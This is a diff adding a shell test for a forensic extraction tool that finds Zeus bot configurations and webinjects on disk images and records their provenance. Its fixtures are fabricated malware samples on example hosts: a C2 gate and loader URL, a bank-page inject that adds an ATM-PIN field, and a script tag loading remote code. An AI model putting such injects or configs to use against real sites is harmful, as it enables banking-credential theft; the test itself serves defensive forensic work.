@@ -1,0 +1,145 @@
+#!/bin/sh
+# custody-extract and the bot-configuration extractors, end to end: a
+# controller's builder config and webinjects in an ext4 image (and again
+# deleted on FAT, and inside a tar.gz), found, recorded with where they
+# were, and listed as targets; the key config.txt teaches is shared.
+. "$CUSTODY_TOP/tests/cli/lib.sh"
+
+C=$T/case
+new_case "$C" || fail "test case created"
+last() { ls -d "$C"/extractions/E001-X* | sort -V | tail -n 1; }
+# bc UNIT EXPR: a Python expression over `recs`, the records of UNIT
+bc() {
+	"$PYTHON" -c 'import json, sys
+recs = [json.loads(l) for l in open(sys.argv[1] + "/botconfigs.jsonl")]
+print(eval(sys.argv[2]))' "$1" "$2"
+}
+
+mkdir -p "$T/disk/var/www/builder" "$T/disk/home/op"
+cat >"$T/disk/var/www/builder/config.txt" <<'CFG'
+;Build time: 14:15:23 10.04.2009 GMT
+;Version: 1.3.2.1
+entry "StaticConfig"
+  botnet "btn-b107"
+  timer_config 60 1
+  url_config "http://citysvc.example/cfg/config.bin"
+  encryption_key "kN9#q2!Lr"
+end
+entry "DynamicConfig"
+  url_loader "http://citysvc.example/bot.exe"
+  url_server "http://citysvc.example/gate.php"
+  entry "WebFilters"
+    "!*.microsoft.com/*"
+    "https://www.bank.example/*"
+  end
+end
+CFG
+cat >"$T/disk/var/www/builder/webinjects.txt" <<'WI'
+set_url https://www.bank.example/login* GP
+data_before
+<div id="login">
+data_end
+data_inject
+<input name="atm_pin">
+data_end
+data_after
+data_end
+set_url https://*.other-bank.example/accounts/* GPLI
+data_before
+<body*>
+data_end
+data_inject
+<script src="http://inject.example/a.js"></script>
+data_end
+data_after
+data_end
+WI
+printf 'notes: nothing here\n' >"$T/disk/home/op/notes.txt"
+(cd "$T/disk/var/www" && tar czf "$T/disk/home/op/backup.tgz" builder)
+mke2fs -q -F -t ext4 -d "$T/disk" "$T/ctl.img" 16M >/dev/null 2>&1 ||
+	fail "an ext4 controller disk (mke2fs -d)"
+
+expect_exit 0 "extract the controller disk" custody-extract --case "$C" \
+	--item E001 --quiet "$T/ctl.img"
+X=$(last)
+[ "$(bc "$X" 'sorted(set((r["extractor"], r["status"]) for r in recs))')" = \
+	"[('zeus-config', 'decoded'), ('zeus-webinjects', 'decoded')]" ] &&
+	ok "both families found and decoded" ||
+	{ fail "both families found and decoded"; sed 's/^/#   /' "$X/botconfigs.jsonl"; }
+[ "$(bc "$X" 'len(recs)')" -eq 2 ] &&
+	ok "the same content in the tar.gz is one record, not two" ||
+	fail "the same content in the tar.gz is one record, not two"
+[ "$(bc "$X" '[r for r in recs if r["extractor"] == "zeus-config"][0]["botnet"]')" = btn-b107 ] &&
+	ok "the botnet name" || fail "the botnet name"
+[ "$(bc "$X" 'sorted(p["path"] for r in recs if r["extractor"] == "zeus-config" for p in r["provenance"]["places"])')" = \
+	"['/home/op/backup.tgz!builder/config.txt', '/var/www/builder/config.txt']" ] &&
+	ok "the provenance names both places, the archive member by its chain" ||
+	{ fail "the provenance names both places"; bc "$X" '[r["provenance"] for r in recs]' | sed 's/^/#   /'; }
+sha=$(sha256sum "$T/disk/var/www/builder/config.txt" | cut -d' ' -f1)
+[ "$(bc "$X" '[r for r in recs if r["extractor"] == "zeus-config"][0]["provenance"]["sha256"]')" = "$sha" ] &&
+	ok "the provenance gives the content's SHA-256" ||
+	fail "the provenance gives the content's SHA-256"
+[ -f "$X/objects/$(echo "$sha" | cut -c1-2)/$sha" ] &&
+	ok "the content is kept in objects/" || fail "the content is kept in objects/"
+"$PYTHON" - "$X/inventory.jsonl" <<'PY' && ok "the inventory marks it bot-config, naming its extractor" || fail "the inventory marks it bot-config"
+import json, sys
+lines = [json.loads(l) for l in open(sys.argv[1])]
+cfg = [o for o in lines if o.get("path") == "/var/www/builder/config.txt"][0]
+assert cfg["interest"] == "bot-config" and cfg["extractors"] == ["zeus-config"], cfg
+notes = [o for o in lines if o.get("path") == "/home/op/notes.txt"][0]
+assert "extractors" not in notes
+PY
+grep -q '^https://www.bank.example/login\*,GP,www.bank.example,1,zeus,' "$X/targets/webinjects.csv" &&
+	ok "webinjects.csv lists the target with flags, host and injects" ||
+	{ fail "webinjects.csv lists the target"; sed 's/^/#   /' "$X/targets/webinjects.csv"; }
+grep -q '^http://citysvc.example/gate.php,report,zeus,1,' "$X/targets/c2.csv" &&
+	ok "c2.csv lists the gate as a report endpoint" ||
+	{ fail "c2.csv lists the gate"; sed 's/^/#   /' "$X/targets/c2.csv"; }
+"$PYTHON" -c 'import json, sys
+r = json.load(open(sys.argv[1]))["botconfigs"]
+assert r["enabled"] and r["records"] == 2 and r["families"] == ["zeus"], r
+assert r["by_kind"] == {"config": 1, "webinjects": 1} and r["keys_learned"] == 1, r' \
+	"$X/extraction.json" && ok "extraction.json counts them by family and kind" ||
+	fail "extraction.json counts them by family and kind"
+schemas_ok "$C" "botconfigs.jsonl matches botconfig.schema.json"
+(cd "$X" && sha256sum -c SHA256SUMS >/dev/null 2>&1) &&
+	ok "the unit with its records checks with sha256sum -c" ||
+	fail "the unit with its records checks with sha256sum -c"
+
+# the same disk, the same records, whatever the number of workers
+expect_exit 0 "extract again on one thread" custody-extract --case "$C" \
+	--item E001 --quiet --jobs 0 "$T/ctl.img"
+Y=$(last)
+cmp -s "$X/botconfigs.jsonl" "$Y/botconfigs.jsonl" &&
+	ok "botconfigs.jsonl is byte-identical with --jobs 0" ||
+	fail "botconfigs.jsonl is byte-identical with --jobs 0"
+
+# deleted on FAT: found all the same
+dd if=/dev/zero of="$T/fat.img" bs=1M count=8 2>/dev/null
+mkfs.fat "$T/fat.img" >/dev/null 2>&1 &&
+	mcopy -i "$T/fat.img" "$T/disk/var/www/builder/webinjects.txt" ::/inj.txt &&
+	mdel -i "$T/fat.img" ::/inj.txt || fail "a FAT image with a deleted webinjects file"
+expect_exit 0 "extract the FAT image" custody-extract --case "$C" --item E001 \
+	--quiet "$T/fat.img"
+Z=$(last)
+[ "$(bc "$Z" '[(r["extractor"], r["provenance"]["places"][0]["path"].lower()) for r in recs]')" = \
+	"[('zeus-webinjects', '/_nj.txt')]" ] &&
+	ok "the deleted webinjects file is found on FAT" ||
+	{ fail "the deleted webinjects file is found on FAT"; sed 's/^/#   /' "$Z/botconfigs.jsonl"; }
+
+# choosing extractors
+expect_exit 0 "--extractors zeus-webinjects" custody-extract --case "$C" \
+	--item E001 --quiet --extractors zeus-webinjects "$T/ctl.img"
+[ "$(bc "$(last)" 'sorted(set(r["extractor"] for r in recs))')" = "['zeus-webinjects']" ] &&
+	ok "only the extractor named runs" || fail "only the extractor named runs"
+expect_exit 0 "--extractors none" custody-extract --case "$C" --item E001 \
+	--quiet --extractors none "$T/ctl.img"
+[ ! -e "$(last)/botconfigs.jsonl" ] && ok "no extractor, no botconfigs.jsonl" ||
+	fail "no extractor, no botconfigs.jsonl"
+expect_exit 2 "an unknown extractor is a usage error" custody-extract \
+	--case "$C" --item E001 --extractors zeus-nothing "$T/ctl.img"
+expect_exit 0 "--list-extractors" custody-extract --list-extractors
+contains "$T/.out" "zeus-webinjects" "the list names the extractors"
+expect_exit 0 "the case verifies" custody-verify --case "$C"
+
+echo "1..$n"
